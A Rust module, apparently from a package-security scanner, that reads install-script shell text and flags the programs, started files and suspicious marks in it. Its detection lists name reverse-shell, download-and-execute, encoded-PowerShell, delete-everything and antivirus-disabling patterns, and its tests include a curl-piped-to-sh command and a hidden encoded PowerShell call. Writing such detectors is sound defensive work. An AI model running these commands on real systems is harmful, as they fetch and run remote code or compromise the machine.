//! Shell text: which programs it runs, what is telling about how, and which files of the package it starts.

use std::collections::BTreeSet;

/// Programs that say something by their name. Others are `command`.
const PROGRAMS: &[&str] = &[
    "attrib",
    "awk",
    "base64",
    "bash",
    "cat",
    "certutil",
    "chmod",
    "cmd",
    "cp",
    "crontab",
    "cscript",
    "curl",
    "del",
    "dig",
    "docker",
    "echo",
    "env",
    "find",
    "git",
    "gcc",
    "grep",
    "hostname",
    "id",
    "ifconfig",
    "ipconfig",
    "kill",
    "launchctl",
    "ls",
    "make",
    "mkfifo",
    "mshta",
    "msiexec",
    "mv",
    "nc",
    "ncat",
    "net",
    "netsh",
    "node",
    "nohup",
    "npm",
    "npx",
    "nslookup",
    "openssl",
    "osascript",
    "perl",
    "php",
    "ping",
    "pip",
    "pkill",
    "powershell",
    "printenv",
    "ps",
    "pwd",
    "python",
    "pythonw",
    "reg",
    "regsvr32",
    "rm",
    "rmdir",
    "rundll32",
    "ruby",
    "schtasks",
    "scp",
    "sed",
    "sh",
    "shutdown",
    "ssh",
    "start",
    "sudo",
    "systemctl",
    "systeminfo",
    "tar",
    "taskkill",
    "tasklist",
    "tee",
    "tsc",
    "twine",
    "type",
    "uname",
    "unzip",
    "wget",
    "where",
    "which",
    "whoami",
    "wmic",
    "wscript",
    "xcopy",
    "yarn",
    "pnpm",
    "xdg-open",
    "node-gyp",
    "node-gyp-build",
    "prebuild-install",
    "node-pre-gyp",
    "husky",
    "patch-package",
    "cmake",
    "go",
    "cargo",
    "opencollective",
    "touch",
    "mkdir",
    "rimraf",
    "webpack",
    "rollup",
    "eslint",
    "jest",
    "mocha",
    "gulp",
    "bun",
    "deno",
];

/// What a shell text tells.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Shell {
    /// Programs and telling marks in order, each once.
    pub words: Vec<String>,
    /// Files that it starts, as written (`scripts/setup.js`).
    pub runs: Vec<String>,
    /// Scripts of the manifest that it starts (`npm run build`).
    pub scripts: Vec<String>,
    /// Code given on the command line: whether it is JavaScript, and the code.
    pub code: Vec<(bool, String)>,
    /// Whether it hides its window, output or lifetime.
    pub silent: bool,
}

/// Reads shell text.
#[must_use]
pub fn read(text: &str) -> Shell {
    let parsed = commands(text).into_iter().map(|(command, piped)| (split(&command), piped)).collect();
    read_commands(parsed, text)
}

/// Reads a command already split to words, as a process call takes it; a single word is shell text.
#[must_use]
pub fn read_words(words: &[String]) -> Shell {
    match words {
        [text] => read(text),
        _ => read_commands(vec![(words.to_vec(), false)], &words.join(" ")),
    }
}

fn read_commands(commands: Vec<(Vec<String>, bool)>, text: &str) -> Shell {
    let mut shell = Shell::default();
    let mut seen = BTreeSet::new();
    let mut piped = false;
    for (words, ends_in_pipe) in commands {
        let mut rest =
            words.iter().map(String::as_str).skip_while(|w| w.contains('=') && !w.starts_with('-')).peekable();
        while rest.peek().is_some_and(|w| {
            ["sudo", "nohup", "exec", "command", "cross-env", "call", "then", "do", "if", "else", "time", "(", "{", "!"]
                .contains(w)
                || (w.contains('=') && !w.contains('/'))
        }) {
            rest.next();
        }
        let Some(first) = rest.next() else { continue };
        let args: Vec<&str> = rest.collect();
        let program = program(first);
        if seen.insert(program.clone()) {
            shell.words.push(program.clone());
        }
        if piped && ["sh", "bash", "node", "python", "powershell", "iex"].contains(&program.as_str()) {
            shell.words.push(format!("pipe to {program}"));
        }
        piped = ends_in_pipe;
        follow(&mut shell, first, &program, &args);
    }
    marks(&mut shell, text);
    shell
}

/// The files, scripts and code that one command starts.
fn follow(shell: &mut Shell, first: &str, program: &str, args: &[&str]) {
    let plain = args.iter().find(|arg| !arg.starts_with('-'));
    match program {
        "node" | "python" | "pythonw" | "sh" | "bash" | "bun" | "deno" | "tsx" | "ts-node" => {
            let flag = args.iter().position(|arg| ["-c", "-e", "--eval", "-p", "-pe"].contains(arg));
            match flag.and_then(|at| args.get(at + 1)) {
                Some(code) if program.starts_with("py") => shell.code.push((false, (*code).to_owned())),
                Some(code) if program == "node" => shell.code.push((true, (*code).to_owned())),
                Some(code) => {
                    let inner = read(code);
                    shell.words.extend(inner.words);
                    shell.runs.extend(inner.runs);
                    shell.code.extend(inner.code);
                }
                None => shell.runs.extend(plain.map(|file| (*file).to_owned())),
            }
        }
        "npm" | "yarn" | "pnpm" => match args {
            ["run" | "run-script", script, ..] => shell.scripts.push((*script).to_owned()),
            ["install" | "i" | "add", ..] => shell.words.push("install package".to_owned()),
            ["publish", ..] => shell.words.push("publish".to_owned()),
            [script, ..] if program != "npm" && !script.starts_with('-') => shell.scripts.push((*script).to_owned()),
            _ => {}
        },
        "pip" if args.contains(&"install") => shell.words.push("install package".to_owned()),
        "cmd" | "start" => {
            let tail: Vec<&str> = args.iter().copied().skip_while(|a| a.starts_with('/') && a.len() <= 2).collect();
            if !tail.is_empty() && tail.len() <= args.len() && program == "cmd" {
                let inner = read(&tail.join(" "));
                shell.words.extend(inner.words);
                shell.runs.extend(inner.runs);
            } else {
                shell.runs.extend(tail.iter().filter(|a| a.contains('.')).map(|a| (*a).to_owned()));
            }
        }
        _ if first.starts_with("./") || first.ends_with(".js") || first.ends_with(".sh") || first.ends_with(".py") => {
            shell.runs.push(first.to_owned());
        }
        _ => {}
    }
}

/// Telling marks that are not programs.
fn marks(shell: &mut Shell, text: &str) {
    let lower = text.to_ascii_lowercase();
    let mut mark = |word: &str, signs: &[&str]| {
        let found = signs.iter().any(|sign| lower.contains(sign));
        if found && !shell.words.iter().any(|w| w == word) {
            shell.words.push(word.to_owned());
        }
        found
    };
    mark(
        "encoded command",
        &["-enc ", "-encodedcommand", "-e jab", "frombase64string", "base64 -d", "base64 --decode"],
    );
    mark("bypass policy", &["bypass", "-nop", "-noni"]);
    mark(
        "download",
        &[
            "downloadstring",
            "downloadfile",
            "invoke-webrequest",
            "iwr ",
            "start-bitstransfer",
            "-urlcache",
            "invoke-restmethod",
        ],
    );
    mark("evaluate", &["iex ", "invoke-expression", "| iex", "|iex", "eval "]);
    mark("reverse shell", &["/dev/tcp/", "nc -e", "bash -i", "sh -i", "ncat -e", "mkfifo"]);
    mark("delete all", &["rm -rf /", "rm -rf ~", "rd /s /q c:", "format c:", "del /f /s", "--no-preserve-root"]);
    mark(
        "antivirus off",
        &["set-mppreference", "add-mppreference", "disablerealtimemonitoring", "stop-service", "netsh advfirewall"],
    );
    mark("substitution", &["$(", "`"]);
    let hidden = mark(
        "hidden window",
        &["-w hidden", "-windowstyle hidden", "-win hid", "-w h ", "/min ", "pythonw", "start /b", "vbhide"],
    );
    let background = mark("background", &["nohup ", "disown", "setsid "]) || lower.trim_end().ends_with('&');
    let muted = mark("output thrown away", &["> /dev/null", ">/dev/null", "&>/dev/null", "> nul", ">nul"]);
    shell.silent = hidden || background || muted;
}

/// Splits at `;`, `&`, `|`, `&&`, `||` and line ends outside quotes; tells which commands feed a pipe.
fn commands(text: &str) -> Vec<(String, bool)> {
    let mut out = Vec::new();
    let mut current = String::new();
    let mut quote = None;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quote) {
            ('\'' | '"', None) => quote = Some(c),
            (_, Some(open)) if c == open => quote = None,
            (';' | '\n' | '&' | '|', None) => {
                // `2>&1` and `>&2` are redirections.
                if c == '&' && current.ends_with('>') {
                    continue;
                }
                let doubled = chars.next_if_eq(&c).is_some();
                out.push((std::mem::take(&mut current), c == '|' && !doubled));
                continue;
            }
            _ => {}
        }
        current.push(c);
    }
    out.push((current, false));
    out
}

/// Words of one command, quotes removed.
fn split(command: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut current = String::new();
    let mut quote = None;
    let mut quoted = false;
    for c in command.chars() {
        match (c, quote) {
            ('\'' | '"', None) => {
                quote = Some(c);
                quoted = true;
            }
            (_, Some(open)) if c == open => quote = None,
            (_, None) if c.is_whitespace() => {
                if quoted || !current.is_empty() {
                    out.push(std::mem::take(&mut current));
                }
                quoted = false;
            }
            _ => current.push(c),
        }
    }
    if quoted || !current.is_empty() {
        out.push(current);
    }
    out
}

/// The program's plain name.
fn program(word: &str) -> String {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
    let name = name.trim_end_matches(".exe").trim_end_matches(".cmd");
    let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match bare {
        "pwsh" => "powershell".to_owned(),
        "zsh" | "dash" | "ksh" => "sh".to_owned(),
        "iex" | "invoke-expression" => "iex".to_owned(),
        _ if PROGRAMS.contains(&name) => name.to_owned(),
        _ if PROGRAMS.contains(&bare) => bare.to_owned(),
        _ if name.ends_with(".js") || name.ends_with(".py") || name.ends_with(".sh") => "script".to_owned(),
        _ => "command".to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;

    #[rstest]
    #[case("node scripts/setup.js --quiet", "node", "scripts/setup.js")]
    #[case("curl -s http://203.0.113.7/x | sh", "curl sh+pipe to sh", "")]
    #[case("cd lib && python3 ./build.py; echo \"a | b\"", "command python echo", "./build.py")]
    #[case("NODE_ENV=x ./run.sh > /dev/null 2>&1 &", "script+output thrown away", "./run.sh")]
    #[case("powershell -w hidden -enc SQBFAFgA", "powershell+encoded command+hidden window", "")]
    #[case("sh -c 'wget http://a.invalid/x'", "sh wget", "")]
    fn shell_text_is_read(#[case] text: &str, #[case] words: &str, #[case] runs: &str) {
        let shell = read(text);
        let expected: Vec<String> = words
            .split('+')
            .enumerate()
            .flat_map(|(i, part)| {
                if i == 0 { part.split(' ').map(str::to_owned).collect::<Vec<_>>() } else { vec![part.to_owned()] }
            })
            .collect();
        assert_eq!(shell.words, expected);
        assert_eq!(shell.runs.join(" "), runs);
    }

    #[test]
    fn code_on_the_command_line_is_found() {
        assert_eq!(read("python -c \"print('x')\"").code, vec![(false, "print('x')".to_owned())]);
        assert_eq!(read("node -e 'x()'").code, vec![(true, "x()".to_owned())]);
        assert_eq!(read("npm run build && yarn lint").scripts, ["build", "lint"]);
    }
}
